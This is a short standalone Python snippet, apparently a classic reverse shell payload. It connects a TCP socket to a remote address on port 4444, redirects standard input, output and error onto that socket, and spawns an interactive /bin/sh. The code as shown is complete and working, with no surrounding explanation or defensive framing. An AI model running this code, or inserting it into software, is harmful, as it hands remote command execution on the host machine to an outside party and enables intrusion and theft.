import socket, pty
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(('203.0.113.7', 4444))
[__import__('os').dup2(s.fileno(), f) for f in (0, 1, 2)]
pty.spawn('/bin/sh')
